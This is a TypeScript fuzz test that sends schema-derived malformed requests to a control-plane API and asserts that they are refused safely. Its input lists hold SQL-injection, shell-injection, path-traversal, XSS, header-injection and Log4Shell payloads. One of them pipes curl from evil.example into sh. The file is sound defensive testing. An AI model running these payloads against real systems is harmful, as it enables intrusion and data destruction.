import { createRequire } from 'node:module';
import net from 'node:net';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { expect } from 'chai';
import pg from 'pg';
import type { Workspace } from '@a4c/common';
import { docker, removeHostContainers, spawnAgent, startTestControlPlane, uniqueId, type AgentProcess, type TestControlPlane } from './support/cluster.js';

/*
 * Thousands of malformed requests, generated deterministically (a seeded PRNG), against
 * a control plane with a connected real agent, so that anything that slipped through
 * validation could really create, stop or delete something.
 *
 * The operations come from the server's own OpenAPI document (GET /v1/openapi.json),
 * which is generated from the zod schemas that validate every request: each operation's
 * path parameters, query parameters and body schema drive the malformed variants, so an
 * operation added later is fuzzed without touching this file (and the test fails if any
 * operation in the document got no case at all). The raw-HTTP tricks that no schema
 * describes (content types, chunked and huge bodies, bad JSON, nesting, wrong methods,
 * header tricks) run on every operation too.
 *
 * Every response must be < 500 (the one legitimate 5xx, 503 CAPACITY_EXHAUSTED, is
 * allowed but not expected), every error must be the JSON envelope, no mutating request
 * may succeed unless the case says it may (and then only on ids that exist for that
 * purpose), a share of the cases goes out as a plain user who must never get a 2xx for
 * what is not theirs, and the tables must show no change that a 2xx does not explain.
 */

// ---------------------------------------------------------------- raw HTTP client

interface RawResponse {
  status: number;
  headers: Record<string, string>;
  text: string;
  json: unknown;
}

/** One request on its own connection, byte for byte as given (fetch would normalise paths). */
function rawRequest(port: number, method: string, target: string, headers: [string, string][], body?: Buffer): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const lines = [`${method} ${target} HTTP/1.1`, 'Host: 127.0.0.1', 'Connection: close'];
    for (const [k, v] of headers) lines.push(`${k}: ${v}`);
    if (body && !headers.some(([k]) => k.toLowerCase() === 'transfer-encoding')) lines.push(`Content-Length: ${body.length}`);
    const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1');
    const chunks: Buffer[] = [];
    const sock = net.connect(port, '127.0.0.1');
    const timer = setTimeout(() => {
      sock.destroy();
      reject(new Error('no response within 15 s'));
    }, 15_000);
    let done = false;
    const finish = (err?: Error) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      const all = Buffer.concat(chunks);
      const sep = all.indexOf('\r\n\r\n');
      if (sep < 0) {
        reject(err ?? new Error(`no complete response (${all.length} bytes: ${JSON.stringify(all.toString('latin1').slice(0, 200))})`));
        return;
      }
      const [statusLine, ...hl] = all.subarray(0, sep).toString('latin1').split('\r\n');
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(statusLine ?? '')?.[1] ?? 0);
      const hdrs: Record<string, string> = {};
      for (const l of hl) {
        const i = l.indexOf(':');
        if (i > 0) hdrs[l.slice(0, i).trim().toLowerCase()] = l.slice(i + 1).trim();
      }
      let payload: Buffer = all.subarray(sep + 4);
      if (/chunked/i.test(hdrs['transfer-encoding'] ?? '')) payload = dechunk(payload);
      const text = payload.toString('utf8');
      let json: unknown;
      try {
        json = text ? JSON.parse(text) : undefined;
      } catch {
        json = undefined;
      }
      resolve({ status, headers: hdrs, text, json });
    };
    sock.on('data', (c: Buffer) => {
      chunks.push(c);
      // An event stream never ends by itself: its head is the answer.
      const all = Buffer.concat(chunks);
      const sep = all.indexOf('\r\n\r\n');
      if (sep > 0 && /^content-type:\s*text\/event-stream/im.test(all.subarray(0, sep).toString('latin1'))) {
        chunks.splice(0, chunks.length, all.subarray(0, sep + 4));
        finish();
        sock.destroy();
      }
    });
    sock.on('end', () => finish());
    sock.on('close', () => finish());
    // A server that answers early (413) and closes may make our write fail: the
    // response, if any, is what counts.
    sock.on('error', (e) => finish(e));
    sock.write(body ? Buffer.concat([head, body]) : head, () => undefined);
  });
}

function dechunk(b: Buffer): Buffer {
  const out: Buffer[] = [];
  let i = 0;
  for (;;) {
    const eol = b.indexOf('\r\n', i);
    if (eol < 0) break;
    const size = parseInt(b.subarray(i, eol).toString('latin1'), 16);
    if (!size) break;
    out.push(b.subarray(eol + 2, eol + 2 + size));
    i = eol + 2 + size + 2;
  }
  return Buffer.concat(out);
}

// ---------------------------------------------------------------- deterministic inputs

/** mulberry32: small, fast, seeded. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SQL = [
  "' OR 1=1 --",
  "'; DROP TABLE workspaces; --",
  '; DROP TABLE workspaces;',
  '" OR ""="',
  "1'; SELECT pg_sleep(5); --",
  "' UNION SELECT id, team_id FROM users --",
  '$1',
  "%' --",
  "\\'; TRUNCATE users; --",
  "admin'/*",
];
const SHELL = ['$(reboot)', '`reboot`', '; reboot', '| cat /etc/passwd', '&& rm -rf /', '$(curl http://evil.example|sh)', '${IFS}reboot', '\nreboot\n', '> /etc/passwd', "'$(id)'"];
const UNICODE = [
  '\u202egnp.exe', // right-to-left override
  '\u200f\u05e9\u05dc\u05d5\u05dd', // RTL mark and Hebrew
  'a\u200bb', // zero-width space
  'a\u200d\u200cb', // zero-width joiner / non-joiner
  '\ufeffx', // byte order mark
  '\u{1F600}',
  '\u{1F468}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466}',
  '\u0000',
  'dev\u0000',
  'a\u0000b',
  '\u0001\u001f\u007f',
  '\uff44\uff45\uff56', // fullwidth "dev"
  'd\u0435v', // Cyrillic e
  'e\u0301', // combining accent
  '\u2028\u2029',
  '\uffff\ufffe',
  '\u{10FFFF}',
  '\ud800', // lone high surrogate (JSON.stringify writes \ud800)
  '\udfff', // lone low surrogate
  'a\udc00\ud800b', // reversed pair
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%00',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
];
const STRINGS = [...SQL, ...SHELL, ...UNICODE, '', ' ', '\t', 'x'.repeat(600), 'y'.repeat(20_000), 'Z'.repeat(60_000)];

function nested(depth: number, leaf: unknown = 1): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
}
/** An own "__proto__" key, as JSON.parse would make it. */
function protoKey(v: unknown): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  Object.defineProperty(o, '__proto__', { value: v, enumerable: true, configurable: true, writable: true });
  return o;
}
const WRONG_TYPES: unknown[] = [
  0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 1, -0, true, false, null, [], [1, 2], ['linux-x64'], {}, { a: 1 },
  { $ne: null }, { $gt: '' }, protoKey({ admin: true }), { constructor: { prototype: { admin: true } } }, nested(64),
];
const BAD_VALUES: unknown[] = [...WRONG_TYPES, ...STRINGS];

const WAIT_BAD = ['', '%20', '-1', '1.5', '1e3', '0x10', 'abc', 'forever', '9999999', '301', '3601', "'%20OR%201=1%20--", '$(reboot)', '%60reboot%60', '%00', '1%00', 'NaN', 'Infinity', '%EF%BC%91', '1;reboot', '%3B', '+1', '01%20', '[1]', '%2F..%2F'];

/** Lone surrogates become U+FFFD (encodeURIComponent throws on them). */
const wellFormed = (s: string) => s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
const isWellFormed = (s: string) => wellFormed(s) === s;
const enc = (s: string) => encodeURIComponent(wellFormed(s));
/** Path segments: traversal, NUL, bad and double encoding, very long, metacharacters. */
const SEGMENT_TRICKS = [
  '..', '.', '...', '..%2F..%2F..%2Fetc%2Fpasswd', '%2e%2e%2f%2e%2e%2f', '%2e%2e', '%252e%252e%252f', '..%252f', '%c0%ae%c0%ae%c0%af',
  '%00', 'x%00', '%00x', '%2500', 'a%2Fb', '%2F', '%5C..%5C', '..%5c..%5c', '%', '%zz', '%E0%A4%A', '%ED%A0%80', '%ED%B0%80', '%C0%AF',
  '%FF%FE', '%FE%FF', 'A'.repeat(8000), 'a'.repeat(64), `${'a'.repeat(63)}%00`, '%20', '+', '%2B', '%09', '%0A', '%0D%0A',
  'x%0D%0ASet-Cookie:%20a=b', '%3F', '%23', '%3B', ';', '..;', '*', '~', '$', '@', '!', "'", '(', ')', '%60', '%22', '%3C%3E',
  ...[...SQL, ...SHELL, ...UNICODE.filter(isWellFormed)].map(enc),
];
/** How many of SEGMENT_TRICKS are structural (the rest: encoded SQL, shell and unicode). */
const SEGMENT_STRUCTURAL = SEGMENT_TRICKS.length - [...SQL, ...SHELL, ...UNICODE.filter(isWellFormed)].length;


// ---------------------------------------------------------------- the operations, from the OpenAPI document

type JsonSchema = {
  [k: string]: unknown;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  enum?: unknown[];
  pattern?: string;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  additionalProperties?: unknown;
  description?: string;
};
interface DocParameter {
  name: string;
  in: string;
  required?: boolean;
  description?: string;
  schema: JsonSchema;
}
interface DocOperation {
  operationId: string;
  description?: string;
  security?: unknown[];
  /** Who may call it: the server's own access rule (api/operation.ts). */
  'x-a4c-access'?: string;
  /** The largest body the operation reads (api/openapi.ts); past it, 413. */
  'x-a4c-max-body-bytes'?: number;
  parameters?: DocParameter[];
  requestBody?: { content?: Record<string, { schema: JsonSchema }> };
}
interface OpenApiDoc {
  paths: Record<string, Record<string, DocOperation>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

/** Who may call an operation, read from the document's "**Who:**" line (api/operation.ts ACCESS_TEXT). */
type Access = 'public' | 'anyone' | 'admin' | 'self' | 'self-or-lead' | 'owner' | 'unknown';

interface Param {
  name: string;
  in: 'path' | 'query';
  required: boolean;
  schema: JsonSchema;
  /** The schema, compiled; values as the router hands them over (decoded strings). */
  ok: (v: unknown) => boolean;
  /** "a whole number from A to B" in the description: a range the pattern does not express. */
  range?: [number, number];
}

interface Op {
  id: string;
  method: string;
  path: string;
  access: Access;
  mutates: boolean;
  pathParams: Param[];
  queryParams: Param[];
  body?: JsonSchema;
  bodyOk: (v: unknown) => boolean;
  /** The body's properties, in schema order, and which are required. */
  props: [string, JsonSchema][];
  required: string[];
  /** A smallest body the schema accepts (required properties only), when one could be made. */
  base: Record<string, unknown>;
  baseOk: boolean;
  /** The largest body it reads, as the document says (64 KiB for most). */
  maxBody: number;
}

const HTTP_METHODS = ['get', 'put', 'post', 'delete', 'patch'];

const ACCESS_RULES = ['public', 'anyone', 'admin', 'self', 'self-or-lead', 'owner'] as const;

function accessOf(o: DocOperation): Access {
  const rule = o['x-a4c-access'];
  return (ACCESS_RULES as readonly string[]).includes(rule ?? '') ? (rule as Access) : 'unknown'; // unknown: treated as strictly as possible
}

/** Inlines `#/components/schemas/X` references (request schemas are not recursive). */
function deref(s: unknown, components: Record<string, JsonSchema>, depth = 0): unknown {
  if (depth > 32) throw new Error('schema nests too deep (recursive $ref?)');
  if (Array.isArray(s)) return s.map((x) => deref(x, components, depth + 1));
  if (!s || typeof s !== 'object') return s;
  const o = s as Record<string, unknown>;
  if (typeof o.$ref === 'string') return deref(components[o.$ref.replace('#/components/schemas/', '')], components, depth + 1);
  return Object.fromEntries(Object.entries(o).map(([k, v]) => [k, deref(v, components, depth + 1)]));
}

function rangeOf(...texts: (string | undefined)[]): [number, number] | undefined {
  for (const t of texts) {
    const m = /from (\d+) to (\d+)/.exec(t ?? '') ?? /\((\d+)-(\d+)\)/.exec(t ?? '');
    if (m) return [Number(m[1]), Number(m[2])];
  }
  return undefined;
}

const STRING_EXAMPLES = ['tiny', 'fz', 'fz-1', 'a4c-base', 'x', 'C-1', '1', 'fz.example'];

/** Values a schema accepts, best first (enum members, a few plain strings and numbers). */
function exampleOf(s: JsonSchema, ok: (v: unknown) => boolean): unknown {
  const candidates: unknown[] = [];
  const collect = (b: JsonSchema) => {
    if (b.enum) candidates.push(...b.enum);
    if (b.const !== undefined) candidates.push(b.const);
    for (const x of [...(b.anyOf ?? []), ...(b.oneOf ?? [])]) collect(x);
    const types = Array.isArray(b.type) ? b.type : [b.type];
    if (types.includes('string')) candidates.push(...STRING_EXAMPLES, 'a'.repeat(Math.max(1, b.minLength ?? 1)));
    if (types.includes('integer') || types.includes('number')) candidates.push(b.minimum, 60, 1, 0, 3600, b.maximum);
    if (types.includes('boolean')) candidates.push(true);
    if (types.includes('null')) candidates.push(null);
  };
  collect(s);
  return candidates.find((c) => c !== undefined && ok(c));
}

function operationsOf(doc: OpenApiDoc, ajv: Ajv2020): Op[] {
  const components = doc.components?.schemas ?? {};
  const compile = (s: JsonSchema) => {
    const v = ajv.compile(s);
    return (x: unknown) => v(x) as boolean;
  };
  const ops: Op[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [m, o] of Object.entries(methods)) {
      if (!HTTP_METHODS.includes(m)) continue;
      const params = (o.parameters ?? []).map((p): Param => {
        const schema = deref(p.schema, components) as JsonSchema;
        return {
          name: p.name,
          in: p.in === 'path' ? 'path' : 'query',
          required: p.in === 'path' || Boolean(p.required),
          schema,
          ok: compile(schema),
          range: rangeOf(p.description, schema.description),
        };
      });
      const body = o.requestBody?.content?.['application/json']?.schema;
      const bodySchema = body ? (deref(body, components) as JsonSchema) : undefined;
      const bodyOk = bodySchema ? compile(bodySchema) : () => true;
      const props = Object.entries(bodySchema?.properties ?? {});
      const required = bodySchema?.required ?? [];
      const base: Record<string, unknown> = {};
      for (const [name, s] of props) {
        if (!required.includes(name)) continue;
        const ex = exampleOf(s, compile(s));
        if (ex !== undefined) base[name] = ex;
      }
      ops.push({
        id: o.operationId,
        method: m.toUpperCase(),
        path,
        access: accessOf(o),
        mutates: m !== 'get',
        pathParams: params.filter((p) => p.in === 'path'),
        queryParams: params.filter((p) => p.in === 'query'),
        ...(bodySchema ? { body: bodySchema } : {}),
        bodyOk,
        props,
        required,
        base,
        baseOk: bodyOk(base),
        maxBody: maxBodyOf(o, path),
      });
    }
  }
  return ops;
}

// ---------------------------------------------------------------- what the server will make of a request

const MAX_BODY_BYTES = 64 * 1024;

/** Every operation that reads a body says how large it may be. */
function maxBodyOf(o: DocOperation, path: string): number {
  if (!o.requestBody) return MAX_BODY_BYTES;
  const n = o['x-a4c-max-body-bytes'];
  if (typeof n !== 'number' || n < 1024) throw new Error(`${o.operationId} (${path}) reads a body but its x-a4c-max-body-bytes is ${String(n)}`);
  return n;
}
const MAX_DEPTH = 16;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
/** Koa's own content-type check (ctx.is), so "is this JSON" is decided exactly as the server does. */
const typeis = createRequire(import.meta.url)('type-is') as { is(value: string, types: string[]): string | false | null };

const safeDecode = (s: string) => {
  try {
    return decodeURIComponent(s);
  } catch {
    return s; // what @koa/router hands over when a segment does not decode
  }
};

/** As api/http.ts checkText: no NUL, no lone surrogate, at most 16 levels. */
function textOk(root: unknown): boolean {
  const stack: [unknown, number][] = [[root, 0]];
  while (stack.length) {
    const [v, depth] = stack.pop() as [unknown, number];
    if (typeof v === 'string') {
      if (v.includes('\u0000') || LONE_SURROGATE.test(v)) return false;
      continue;
    }
    if (v === null || typeof v !== 'object') continue;
    if (depth >= MAX_DEPTH) return false;
    if (Array.isArray(v)) {
      for (const x of v) stack.push([x, depth + 1]);
      continue;
    }
    for (const [k, x] of Object.entries(v)) stack.push([k, depth + 1], [x, depth + 1]);
  }
  return true;
}

/**
 * The body as readJson and the operation's schema will see it. 'valid' is generous on
 * purpose: JSON Schema cannot express zod's refinements, so a 'valid' body may still be
 * refused, but an 'invalid' one is certainly refused (and a 'valid' one may succeed).
 */
type BodyState = 'none' | 'ignored' | 'valid' | 'tooBig' | 'badCT' | 'badJSON' | 'invalid';
function bodyState(op: Op, body: string | Buffer | undefined, contentType: string | null | undefined): BodyState {
  if (!op.body) return body === undefined ? 'none' : 'ignored';
  const buf = body === undefined ? Buffer.alloc(0) : typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  if (buf.length > op.maxBody) return 'tooBig';
  const text = buf.toString('utf8');
  let value: unknown = {};
  if (text.trim() !== '') {
    const ct = contentType === undefined ? 'application/json' : contentType;
    if (ct === null || !typeis.is(ct, ['application/json'])) return 'badCT';
    try {
      value = JSON.parse(text);
    } catch {
      return 'badJSON';
    }
    if (!textOk(value)) return 'invalid';
  }
  return op.bodyOk(value) ? 'valid' : 'invalid';
}

/** The query string as Koa parses it (URLSearchParams), against the operation's strict query schema. */
function queryState(op: Op, qs: string): { ok: boolean; field?: string } {
  const sp = new URLSearchParams(qs);
  const bad: string[] = [];
  for (const key of new Set(sp.keys())) {
    const p = op.queryParams.find((x) => x.name === key);
    const vals = sp.getAll(key);
    const v = vals[0] as string;
    if (!p || vals.length > 1 || !p.ok(v) || (p.range && (!/^\d+$/.test(v) || Number(v) < p.range[0] || Number(v) > p.range[1]))) bad.push(key);
  }
  for (const p of op.queryParams) if (p.required && !sp.has(p.name)) bad.push(p.name);
  if (!bad.length) return { ok: true };
  const only = bad.length === 1 && /^\w+$/.test(bad[0] as string) ? bad[0] : undefined;
  return { ok: false, ...(only ? { field: only } : {}) };
}

// ---------------------------------------------------------------- malformed values from a schema

const uniqueValues = (vs: unknown[]): unknown[] => {
  const seen = new Set<string>();
  return vs.filter((v) => {
    const k = `${typeof v}:${JSON.stringify(v)}`;
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
};

/** Values aimed at one property's schema: its range, its pattern, its enum, its length. */
function schemaBad(s: JsonSchema, ok: (v: unknown) => boolean): unknown[] {
  const out: unknown[] = [];
  const branches = [s, ...(s.anyOf ?? []), ...(s.oneOf ?? [])];
  for (const b of branches) {
    const types = Array.isArray(b.type) ? b.type : [b.type];
    if (types.includes('string')) {
      const ex = String(exampleOf(b, ok) ?? 'fz');
      for (const e of (b.enum ?? []) as string[]) out.push(e.toUpperCase(), ` ${e}`, `${e} `, `${e}\u0000`, e.slice(0, -1), `${e}x`, [e], { value: e }, `${e}\u200b`);
      out.push(`-${ex}`, `.${ex}`, `${ex}/`, `${ex}/../..`, `${ex}\n`, `\n${ex}`, ex.toUpperCase(), `${ex}$(id)`, `${ex}';--`, `${ex} `, `${ex}\u0000`, `${ex}\u202e`, `${ex}\ud800`, `\udfff${ex}`, `${ex}\u{1F600}`, `${ex}%00`, `${ex}%2F..`);
      if (b.maxLength !== undefined) out.push('a'.repeat(b.maxLength + 1), '\u{1F600}'.repeat(Math.ceil((b.maxLength + 1) / 2)), 'é'.repeat(b.maxLength + 1));
      if (b.minLength) out.push('a'.repeat(b.minLength - 1));
      if (b.pattern) out.push(ex.repeat(70).slice(0, 300));
      out.push(Number.isFinite(Number(ex)) ? Number(ex) : 1, [ex], { [ex]: ex }, true);
    }
    if (types.includes('integer') || types.includes('number')) {
      const min = b.minimum ?? 0;
      const max = b.maximum ?? 2 ** 31;
      out.push(min - 1, max + 1, min - 0.5, max + 0.5, min + 0.5, min - 1e-9, String(min), `${max}`, 2 ** 31, -(2 ** 31) - 1, 2 ** 63, Number.MAX_SAFE_INTEGER + 2, 1e308, -1e308, 5e-324, [min], { n: min });
    }
    if (types.includes('boolean')) out.push('true', 1, 0);
  }
  return out;
}

/** Query values aimed at one parameter's schema. */
function queryBad(p: Param): string[] {
  const out = [...WAIT_BAD, '%2B1', '%', '%zz', '9'.repeat(11), 'true%00', 'TRUE', 'x'.repeat(200)];
  for (const e of (p.schema.enum ?? []) as string[]) out.push(encodeURIComponent(e.toUpperCase()), `${encodeURIComponent(e)}%20`, `${encodeURIComponent(e)}%00`, `${encodeURIComponent(e)}x`);
  if (p.range) out.push(String(p.range[0] - 1 < 0 ? '-1' : p.range[0] - 1), String(p.range[1] + 1), String(p.range[1] * 10 + 7));
  if (p.schema.maxLength !== undefined) out.push('a'.repeat(p.schema.maxLength + 1));
  return out;
}

// ---------------------------------------------------------------- cases

type Who = 'admin' | 'plain';

interface Case {
  what: string;
  /** The operation this case is aimed at (undefined: a path with a method it does not have). */
  opId?: string;
  who: Who;
  method: string;
  target: string;
  /** Authorization header value; undefined: the admin token; null: none. */
  auth?: string | null;
  /** Content-Type; undefined: application/json when there is a body; null: none. */
  contentType?: string | null;
  body?: string | Buffer;
  extraHeaders?: [string, string][];
  /** The statuses this case must get (besides the global rules). */
  expect?: number[];
  /** The field a 400 must name. */
  field?: string;
  /** A 2xx is allowed, and may change only these rows. */
  mayMutate?: { users?: string[]; teams?: string[]; workspaces?: string[] };
  /** A 2xx would be a non-admin reaching what is not theirs. */
  noSuccess?: boolean;
}

interface Fixture {
  user: string; // owner of the running and the pending workspace, and of the build
  running: string; // a RUNNING workspace
  pending: string; // a PENDING_APPROVAL workspace
  build: string; // a SCHEDULED image build (no agent takes builds here)
  host: string; // the connected host: never removed, never drained
  sacUsers: string[]; // users fuzz PUTs (and token issues) may change
  zeroUser: string; // a user whose quotas are all 0: creations the quota governs are refused for them
  sacTeams: string[];
  /** Users no fuzz request may change. */
  protectedUsers: string[];
  token: string; // the admin token
  plain: { id: string; token: string; tokenId: string }; // the non-admin the fuzz also sends as
  victim: { id: string; tokenId: string }; // another plain user, whose token the non-admin tries to revoke
}

/** Resources that do not exist: a request naming them cannot change anything. */
const FAKE_UUID = '6f1c3b8e-1b2a-4c3d-8e9f-0a1b2c3d4e5f';
const NO_SUCH_HOST = 'no-such-host-';
const isMissing = (v: string | undefined) => v === FAKE_UUID || Boolean(v?.startsWith(NO_SUCH_HOST));

/**
 * Creations the quota governs (a workspace, an image build): sent, schema-valid or not,
 * for the zero-quota user, so that even a valid one must be refused (429 QUOTA_EXCEEDED).
 */
const QUOTA_GATED = /^\/v1\/users\/\{userId\}\/(workspaces|image-schedules)$/;

/** Share of the schema-derived and random cases that also go out as the non-admin. */
const PLAIN_SHARE = 0.25;

interface Spec {
  what: string;
  op: Op;
  /** read: parameters name real resources; write: they name nothing real (or sacrificial ids). */
  mode?: 'read' | 'write';
  /** Raw (already encoded) values for some path parameters. */
  params?: Record<string, string>;
  /** Raw query string, without '?'. */
  query?: string;
  /** Rewrites the whole target: the router may then not match the operation at all. */
  variant?: (target: string) => string;
  body?: string | Buffer;
  /** The field a 400 about the body must name. */
  field?: string;
  expect?: number[];
  contentType?: string | null;
  auth?: string | null;
  extraHeaders?: [string, string][];
  noSuccess?: boolean;
}

interface Generated {
  cases: Case[];
  /** Cases not sent, by reason (valid enough to really act, or aimed at the live host or the fuzz's own token). */
  withheld: Map<string, number>;
}

function generate(f: Fixture, ops: Op[]): Generated {
  const rnd = prng(0xa4c);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)] as T;
  const cases: Case[] = [];
  const withheld = new Map<string, number>();
  const withhold = (why: string) => {
    withheld.set(why, (withheld.get(why) ?? 0) + 1);
    return undefined;
  };
  const json = (v: unknown) => JSON.stringify(v);
  let hostSeq = 0;

  /** Path parameter values by name and place, from the fixture. */
  const fill = (op: Op, mode: 'read' | 'write', who: Who): Record<string, string> => {
    const v: Record<string, string> = {};
    const tokenPath = op.pathParams.some((p) => p.name === 'tokenId');
    for (const p of op.pathParams) {
      const seg = new RegExp(`/([^/{}]+)/\\{${p.name}\\}`).exec(op.path)?.[1];
      const uuid = typeof p.schema.pattern === 'string' && p.schema.pattern.includes('[0-9a-f]{8}');
      if (uuid) {
        if (mode === 'write') v[p.name] = FAKE_UUID;
        else if (seg === 'workspaces') v[p.name] = pick([f.running, f.pending, FAKE_UUID]);
        else if (seg === 'image-schedules') v[p.name] = pick([f.build, FAKE_UUID]);
        else if (seg === 'tokens') v[p.name] = f.victim.tokenId;
        else v[p.name] = FAKE_UUID;
      } else if (seg === 'hosts') v[p.name] = mode === 'write' ? `${NO_SUCH_HOST}${hostSeq++}` : f.host;
      else if (p.name === 'userId') {
        if (mode === 'read' && tokenPath) v[p.name] = f.victim.id;
        else if (mode === 'write' && who === 'admin' && op.method === 'POST' && QUOTA_GATED.test(op.path)) v[p.name] = f.zeroUser;
        else if (who === 'plain') v[p.name] = pick(mode === 'read' ? [f.plain.id, f.plain.id, f.user, f.victim.id] : [f.plain.id, ...f.sacUsers, f.user]);
        else v[p.name] = mode === 'read' ? f.user : pick(f.sacUsers);
      } else if (p.name === 'teamId') v[p.name] = pick(f.sacTeams);
      else v[p.name] = String(exampleOf(p.schema, p.ok) ?? 'fz'); // a parameter this file has never heard of
    }
    return v;
  };

  /** A schema-valid request that may legitimately succeed: allowed only on sacrificial ids, and accounted for. */
  const allowValid = (op: Op, values: Record<string, string>): Case['mayMutate'] => {
    const u = values.userId;
    const t = values.teamId;
    // PUT creates or replaces what the path names; issuing a token only adds a row to api_tokens.
    if (u !== undefined && f.sacUsers.includes(u) && (op.method === 'PUT' || /\/tokens$/.test(op.path))) return { users: [u] };
    if (t !== undefined && f.sacTeams.includes(t) && op.method === 'PUT') return { teams: [t] };
    return undefined;
  };

  /**
   * Never sent, whatever the case: removing the live host (even with a request that
   * must be refused), anything naming the fuzz's own token; and, when the request might
   * be valid, the admin revoking the victim's token (the non-admin's target).
   */
  const forbidden = (method: string, target: string, who: Who, mightBeValid: boolean): string | undefined => {
    const t = `${target} ${safeDecode(target)}`.toLowerCase();
    if (t.includes(f.plain.tokenId)) return "names the non-admin's own token";
    if (method === 'DELETE' && t.includes('/hosts/') && t.includes(f.host.toLowerCase())) return 'DELETE on the live host';
    if (method === 'DELETE' && who === 'admin' && mightBeValid && t.includes(f.victim.tokenId)) return "an admin revoking the victim's token";
    return undefined;
  };

  const make = (s: Spec, who: Who): Case | undefined => {
    const op = s.op;
    const mode = s.mode ?? (op.mutates ? 'write' : 'read');
    const raw = { ...fill(op, mode, who), ...s.params };
    const values: Record<string, string> = {};
    let paramsOk = true;
    let paramField: string | undefined;
    for (const p of op.pathParams) {
      values[p.name] = safeDecode(raw[p.name] as string);
      if (paramsOk && !p.ok(values[p.name])) {
        paramsOk = false;
        paramField = p.name;
      }
    }
    const q = s.query ?? '';
    const query = queryState(op, q);
    let target = op.path.replace(/\{(\w+)\}/g, (_, n: string) => raw[n] as string) + (q ? `?${q}` : '');
    if (s.variant) target = s.variant(target);
    if (!target.startsWith('/') && !target.startsWith('http://')) return undefined; // not a request target at all
    // A raw "/" (or "?", "#") in a parameter may make the router see another path.
    const routeUnsure = Boolean(s.variant) || Object.values(s.params ?? {}).some((v) => /[/?#]/.test(v));
    const authOk = s.auth === undefined || op.access === 'public';
    const body = bodyState(op, s.body, s.contentType);
    const potentiallyValid = authOk && paramsOk && query.ok && (body === 'none' || body === 'ignored' || body === 'valid');
    // Ids that name nothing (and the victim's token under anyone but the victim): nothing to act on.
    const missing = op.pathParams.some((p) => isMissing(values[p.name])) || (values.tokenId === f.victim.tokenId && values.userId !== f.victim.id);
    const own = values.userId === f.plain.id;

    const why = forbidden(op.method, target, who, potentiallyValid);
    if (why) return withhold(why);
    let mayMutate: Case['mayMutate'];
    // A request that might be valid enough to act is sent only where it cannot act (or
    // acts on a sacrificial id): a public operation carries its own credential in the
    // body (a join token), and the fuzz holds none; a quota-governed creation goes to
    // the zero-quota user; the non-admin is refused what is not its own.
    if (op.mutates && potentiallyValid && !missing && op.access !== 'public') {
      if (who === 'admin') {
        mayMutate = allowValid(op, values);
        if (!mayMutate && !(QUOTA_GATED.test(op.path) && values.userId === f.zeroUser)) return withhold(`schema-valid ${op.id} (would really act)`);
      } else if (!(op.access === 'admin' || ((op.access === 'self' || op.access === 'self-or-lead' || op.access === 'owner') && !own))) {
        return withhold(`schema-valid ${op.id} as the non-admin on its own resources (would really act)`);
      }
    }

    // What the server must answer, in the order it checks: token, path parameters,
    // query, access, then the body (size, content type, JSON, schema).
    let exp = who === 'admin' ? s.expect : undefined;
    let field = who === 'admin' ? s.field : undefined;
    let noSuccess = s.noSuccess ?? false;
    if (!exp && !routeUnsure && authOk) {
      field = undefined;
      if (!paramsOk) [exp, field] = [[400], paramField];
      else if (!query.ok) [exp, field] = [[400], query.field];
      // zod refinements the document cannot express may still refuse a query it allows, before access is checked.
      else if (who === 'plain' && op.access === 'admin') exp = q ? [400, 403] : [403];
      else if (who === 'plain' && (op.access === 'self' || op.access === 'self-or-lead') && !own) exp = q ? [400, 404] : [404];
      else if (body === 'tooBig') exp = [413];
      else if (body === 'badCT') exp = [415];
      else if (body === 'badJSON') exp = [400];
      else if (body === 'invalid') [exp, field] = [[400], s.field];
    }
    if (who === 'plain') {
      const others = Object.entries(values).some(([k, v]) => k === 'userId' && v !== f.plain.id) || new URLSearchParams(q).getAll('userId').some((v) => v !== f.plain.id);
      if (op.access === 'owner' || op.access === 'unknown' || op.access === 'admin' || (others && op.access !== 'public')) noSuccess = true;
    }
    const c: Case = { what: s.what, opId: op.id, who, method: op.method, target, ...(mayMutate ? { mayMutate } : {}), ...(noSuccess ? { noSuccess } : {}) };
    if (exp) c.expect = exp;
    if (field !== undefined) c.field = field;
    if (s.body !== undefined) c.body = s.body;
    if (s.contentType !== undefined) c.contentType = s.contentType;
    if (who === 'plain') c.auth = `Bearer ${f.plain.token}`;
    else if (s.auth !== undefined) c.auth = s.auth;
    if (s.extraHeaders) c.extraHeaders = s.extraHeaders;
    return c;
  };
  /** Adds the case as the admin and, for a seeded share, as the non-admin too. */
  const add = (s: Spec, plainShare = 0) => {
    const c = make(s, 'admin');
    if (c) cases.push(c);
    if (plainShare && rnd() < plainShare) {
      const p = make(s, 'plain');
      if (p) cases.push(p);
    }
  };

  /** A body the schema certainly refuses (so the other parts of the case are what is tested). */
  const invalidBody = (op: Op): string => {
    for (const [name] of op.props) {
      const bad = [42, 'x'.repeat(600), [], { a: 1 }].find((v) => bodyState(op, json({ ...op.base, [name]: v }), undefined) === 'invalid');
